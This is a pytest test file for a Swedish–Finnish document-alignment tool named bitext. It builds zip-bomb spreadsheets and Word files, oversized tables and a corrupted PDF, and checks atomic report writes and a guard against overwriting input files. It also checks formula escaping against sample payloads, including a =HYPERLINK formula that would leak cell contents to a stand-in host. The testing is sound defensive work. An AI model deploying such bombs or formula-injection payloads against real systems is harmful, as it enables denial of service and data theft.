"""Hostile and broken inputs (issue 14): bounds in the readers, formula-safe reports,
all-or-nothing atomic writes, the output guard by inode, quiet third-party libraries.

Every hostile file is built here, small on disk (the bombs are a few hundred KB zipped)."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import zipfile
import zlib

import openpyxl
import pytest

import bitext
from bitext.cli import main
from bitext.errors import InputError, UsageError
from bitext.readers import read_raw
from bitext.readers import _limits
from bitext.report import output
from bitext.report.output import OutputError, check_output, escape_formula, write_all, write_atomic
from conftest import FI, ROOT

FIXTURES = ROOT / "tests" / "fixtures"


def one_line_error(capsys, argv, *parts):
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.count("\n") == 1 and "Traceback" not in err and err.startswith("bitext: error: "), err
    for part in parts:
        assert part in err, err
    return err


# --- bounds in the readers ------------------------------------------------------------

def _xlsx(tmp_path, name, sheet_edit):
    """A real workbook whose first sheet's XML is edited."""
    base = tmp_path / "base.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["Mål", "Mätare"])
    wb.active.append(["Vi gör", "Andel"])
    wb.save(base)
    out = tmp_path / name
    with zipfile.ZipFile(base) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as o:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = sheet_edit(data)
            o.writestr(info.filename, data)
    return out


def _far_row(data: bytes) -> bytes:
    row = (b'<row r="1000000000"><c r="A1000000000" t="inlineStr"><is><t>far</t></is></c>'
           b'<c r="B1000000000" t="inlineStr"><is><t>away</t></is></c></row>')
    return data.replace(b"</sheetData>", row + b"</sheetData>")


def test_xlsx_row_numbered_a_billion_is_one_row(tmp_path):
    # openpyxl's iter_rows would yield a billion empty rows first (79 s, 7.8 GB).
    doc = read_raw(_xlsx(tmp_path, "far.xlsx", _far_row))
    table = next(b for b in doc.blocks if hasattr(b, "rows"))
    assert [r.cells for r in table.rows] == [("Mål", "Mätare"), ("Vi gör", "Andel"), ("far", "away")]
    assert table.rows[-1].source.ref == "Sheet!1000000000"


def test_xlsx_zip_bomb_of_empty_rows_is_refused_before_parsing(tmp_path, capsys):
    bomb = _xlsx(tmp_path, "bomb.xlsx", lambda d: d.replace(b"</sheetData>", b"<row/>" * (70 * 2**20 // 6) + b"</sheetData>"))
    assert bomb.stat().st_size < 200_000
    one_line_error(capsys, ["align", str(bomb), str(FI)], "bomb.xlsx", "xl/worksheets/sheet1.xml",
                   "70 MiB uncompressed", f"at most {_limits.MAX_PART_BYTES // 2**20} MiB")


@pytest.mark.parametrize("where", ["bitext.readers.xlsx.MAX_SHEET_ROWS", "bitext.readers._limits.MAX_SHEET_ROWS"])
def test_xlsx_more_row_elements_than_a_sheet_can_hold(tmp_path, monkeypatch, where):
    # Checked on the bytes before parsing (_limits) and while streaming (xlsx).
    monkeypatch.setattr(where, 1000)
    bomb = _xlsx(tmp_path, "rows.xlsx", lambda d: d.replace(b"</sheetData>", b'<row r="7" ht="15"/>' * 5000 + b"</sheetData>"))
    with pytest.raises(InputError, match="has more than 1,000 rows, more than a spreadsheet can hold"):
        read_raw(bomb)


def test_xlsx_cell_at_column_xfd_is_refused(tmp_path, capsys):
    far = _xlsx(tmp_path, "xfd.xlsx", lambda d: d.replace(
        b"</sheetData>", b'<row r="9"><c r="XFD9" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'))
    one_line_error(capsys, ["align", str(far), str(FI)], "xfd.xlsx", "row Sheet!9 has 16,384 cells",
                   f"at most {_limits.MAX_COLUMNS} columns")


def test_docx_of_millions_of_empty_paragraphs_is_refused(tmp_path, capsys):
    # 3 M <w:p/> (18 MiB, under the part bound): python-docx would build them all.
    src = FIXTURES / "loviisa_2021_sv.docx"
    bomb = tmp_path / "paragraphs.docx"
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as o:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename == "word/document.xml":
                k = data.rindex(b"<w:sectPr")
                data = data[:k] + b"<w:p/>" * 3_000_000 + data[k:]
            o.writestr(info.filename, data)
    one_line_error(capsys, ["align", str(bomb), str(FI)], "paragraphs.docx",
                   f"more than {_limits.MAX_XML_ELEMENTS:,} XML elements", "word/document.xml")


def test_docx_package_larger_than_the_bound_uncompressed(tmp_path, monkeypatch):
    monkeypatch.setattr(_limits, "MAX_PACKAGE_BYTES", 10_000)
    with pytest.raises(InputError, match=r"the DOCX file is [\d,]+ bytes uncompressed; bitext reads at most 10,000 bytes"):
        read_raw(FIXTURES / "loviisa_2021_sv.docx")


@pytest.mark.parametrize("name, line", [
    ("wide.tsv", "\t".join(f"c{k}" for k in range(300_000))),
    ("wide.md", "|" + "|".join(f"c{k}" for k in range(100_000)) + "|"),
    ("wide.csv", ",".join(f"c{k}" for k in range(5_000))),
])
def test_rows_wider_than_the_column_bound_are_refused(tmp_path, capsys, name, line):
    path = tmp_path / name
    path.write_text("Rubrik\n\n" + line + "\n", encoding="utf-8")
    one_line_error(capsys, ["align", str(path), str(FI)], name, f"at most {_limits.MAX_COLUMNS} columns")


def test_a_row_of_1000_cells_is_still_read(tmp_path):
    path = tmp_path / "wide.tsv"
    path.write_text("\t".join(f"c{k}" for k in range(1000)) + "\n" + "\t".join(map(str, range(1000))) + "\n")
    table = read_raw(path).blocks[0]
    assert len(table.rows[1].cells) == 1000 and table.rows[1].cells[-1] == "999"


def test_rows_and_cells_bounds(tmp_path, monkeypatch):
    monkeypatch.setattr(_limits, "MAX_ROWS", 50)
    path = tmp_path / "long.tsv"
    path.write_text("".join(f"a{k}\tb{k}\n" for k in range(60)))
    with pytest.raises(InputError, match="a table has more than 50 rows .at line 51."):
        read_raw(path)
    monkeypatch.setattr(_limits, "MAX_ROWS", 1000)
    monkeypatch.setattr(_limits, "MAX_CELLS", 100)
    with pytest.raises(InputError, match="the tables have more than 100 cells"):
        read_raw(path)


# --- third-party warnings --------------------------------------------------------------

def _pdf_with_bad_checksum(path):
    """A one-page PDF whose content stream fails its zlib checksum: pdfminer logs
    "Data-loss while decompressing corrupted data" and reads on."""
    comp = zlib.compress(b"BT /F1 12 Tf 72 720 Td (Hej) Tj ET\n")
    bad = comp[:-1] + bytes([comp[-1] ^ 0xFF])
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bad) + bad + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = b"%PDF-1.4\n", []
    for k, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % k + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    path.write_bytes(out)
    return path


def test_pdfminer_warning_does_not_add_a_second_line(tmp_path):
    pdf = _pdf_with_bad_checksum(tmp_path / "dataloss.pdf")
    # A subprocess: the real CLI's logging set-up, as a user sees it.
    run = subprocess.run([sys.executable, "-m", "bitext", "align", str(pdf), str(FI), "-o", os.devnull],
                         capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert run.returncode == 2
    assert run.stderr.count("\n") == 1 and "Data-loss" not in run.stderr, run.stderr
    assert "dataloss.pdf" in run.stderr


# --- formula injection ----------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"klick")', "+358 40 123", "-andel barn",
           "@SUM(A1:A3)", "\t=1+1", "Vi gör\x08 det\x07 bättre \ufffe nu."]


@pytest.fixture(scope="module")
def hostile_pair(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    sv = d / "sv.md"
    fi = d / "fi.md"
    rows_sv = [("Mål", "Mätare"), (HOSTILE[0], HOSTILE[1]), (HOSTILE[2], HOSTILE[3]), (HOSTILE[4].strip(), HOSTILE[5])]
    rows_fi = [("Tavoite", "Mittari"), ('=HYPERLINK("http://example.invalid/?leak="&A1,"klikkaa")', "+358 40 123"),
               ("-lasten osuus", "@SUM(A1:A3)"), ("=1+1", "Teemme\x08 sen\x07 paremmin \ufffe nyt.")]
    for path, rows in ((sv, rows_sv), (fi, rows_fi)):
        lines = [f"| {rows[0][0]} | {rows[0][1]} |", "|--|--|"] + [f"| {a} | {b} |" for a, b in rows[1:]]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return sv, fi


def test_escape_formula_rule():
    assert [escape_formula(t) for t in HOSTILE[:5]] == ["'" + t for t in HOSTILE[:5]]
    assert [escape_formula(t) for t in ("-5", "+3,5", "1e5", "text", "a=b", "")] == ["-5", "+3,5", "1e5", "text", "a=b", ""]


def test_reports_of_hostile_text_all_written_no_formula(hostile_pair, tmp_path, capsys):
    sv, fi = hostile_pair
    out = {k: tmp_path / f"r.{k}" for k in ("json", "csv", "xlsx", "html")}
    alignment = tmp_path / "alignment.csv"
    code = main(["check", str(sv), str(fi), "-q", *[a for k, p in out.items() for a in (f"--{k}", str(p))],
                 "--alignment", str(alignment)])
    assert code in (0, 1), capsys.readouterr().err
    assert all(p.stat().st_size > 0 for p in [*out.values(), alignment])

    wb = openpyxl.load_workbook(out["xlsx"])
    texts = []
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    with zipfile.ZipFile(out["xlsx"]) as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert any(t.startswith("=HYPERLINK(") for t in texts)  # the text is there, as text
    assert any("Vi gör\ufffd det\ufffd bättre \ufffd nu." == t for t in texts)

    import csv
    with open(alignment, newline="", encoding="utf-8") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + HOSTILE[0] in cells and "'-andel barn" in cells and "'@SUM(A1:A3)" in cells
    assert not any(c.startswith(("=", "+", "@")) or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()) for c in cells)


def test_raw_csv_writes_text_unchanged(hostile_pair, tmp_path):
    sv, fi = hostile_pair
    out = tmp_path / "a.csv"
    assert main(["align", str(sv), str(fi), "-q", "--raw-csv", "-o", str(out)]) == 0
    import pandas as pd

    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert HOSTILE[0] in set(frame["sv_c1"]) and "-andel barn" in set(frame["sv_c1"])


def test_libreoffice_reads_the_xlsx_as_text(hostile_pair, tmp_path):
    import shutil

    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    sv, fi = hostile_pair
    xlsx = tmp_path / "r.xlsx"
    assert main(["check", str(sv), str(fi), "-q", "--xlsx", str(xlsx), "--fail-on", "never"]) == 0
    # Every sheet to its own CSV (the filter's last token, -1): the cells sit on "Side by side".
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", csv_filter,
                    "--outdir", str(tmp_path), str(xlsx)], check=True, capture_output=True, timeout=180)
    text = "".join(p.read_text(encoding="utf-8", errors="replace") for p in sorted(tmp_path.glob("r*.csv")))
    assert "HYPERLINK(" in text and "Err:" not in text and "#NAME" not in text
    assert "-andel barn" in text and "@SUM(A1:A3)" in text


# --- atomic writes, the guard ------------------------------------------------------------

def test_guard_refuses_a_hard_link_and_a_symlink_to_an_input(tmp_path, capsys):
    src = tmp_path / "sv.txt"
    src.write_bytes((ROOT / "data" / "loviisa_2021_sv.txt").read_bytes())
    before = src.read_bytes()
    hard, soft = tmp_path / "report.json", tmp_path / "link.csv"
    os.link(src, hard)
    soft.symlink_to(src)
    one_line_error(capsys, ["check", str(src), str(FI), "--json", str(hard)], "report.json", "refusing to overwrite an input file (it is the same file as")
    one_line_error(capsys, ["align", str(src), str(FI), "-o", str(soft)], "link.csv", "refusing to overwrite an input file (it is the same file as")
    assert src.read_bytes() == before
    with pytest.raises(UsageError, match="is a directory"):
        check_output(tmp_path, [])
    with pytest.raises(UsageError, match="does not exist"):
        check_output(tmp_path / "missing" / "r.json", [])


def test_failed_render_leaves_every_previous_report(tmp_path):
    old = {tmp_path / f"r{k}": f"old {k}".encode() for k in range(3)}
    for p, data in old.items():
        p.write_bytes(data)

    def boom() -> str:
        raise ValueError("rendering failed")

    paths = list(old)
    with pytest.raises(ValueError):
        write_all([(paths[0], "new 0"), (paths[1], boom), (paths[2], "new 2")])
    assert {p: p.read_bytes() for p in paths} == old
    assert sorted(os.listdir(tmp_path)) == ["r0", "r1", "r2"]  # no temporary file left
    write_all([(p, f"new {k}") for k, p in enumerate(paths)])
    assert [p.read_text() for p in paths] == ["new 0", "new 1", "new 2"]


def test_full_disk_keeps_the_old_file_and_says_so(tmp_path, monkeypatch):
    path = tmp_path / "r.json"
    path.write_text("old")

    def full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output.os, "fsync", full)
    with pytest.raises(OutputError, match="r.json: cannot write .No space left on device.; the previous file is unchanged"):
        write_atomic(path, "new" * 1000)
    assert path.read_text() == "old" and os.listdir(tmp_path) == ["r.json"]


def test_cli_device_outputs(hostile_pair, capsys):
    sv, fi = hostile_pair
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    one_line_error(capsys, ["check", str(sv), str(fi), "-q", "--xlsx", "/dev/full"], "/dev/full: cannot write (No space left on device)")
    assert main(["align", str(sv), str(fi), "-q", "-o", os.devnull]) == 0


def test_sigterm_while_writing_leaves_the_previous_report(tmp_path):
    path = tmp_path / "r.json"
    path.write_text("previous report")
    script = f"""
import os, signal, sys
sys.path.insert(0, {str(ROOT)!r})
from bitext.cli import _terminate
from bitext.report import output
signal.signal(signal.SIGTERM, _terminate)
real = os.fsync
def fsync(fd):  # SIGTERM arrives after part of the new report is written
    os.kill(os.getpid(), signal.SIGTERM)
    real(fd)
output.os.fsync = fsync
output.write_atomic({str(path)!r}, "new report " * 100000)
"""
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert run.returncode == 128 + signal.SIGTERM, run.stderr
    assert path.read_text() == "previous report"
    assert os.listdir(tmp_path) == ["r.json"]


def test_to_xlsx_is_atomic(tmp_path, monkeypatch, hostile_pair):
    result = bitext.check(*hostile_pair)
    path = tmp_path / "r.xlsx"
    path.write_bytes(b"previous")
    monkeypatch.setattr("bitext.report.xlsx._settings_sheet", lambda ws, r: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        result.to_xlsx(str(path))
    assert path.read_bytes() == b"previous"
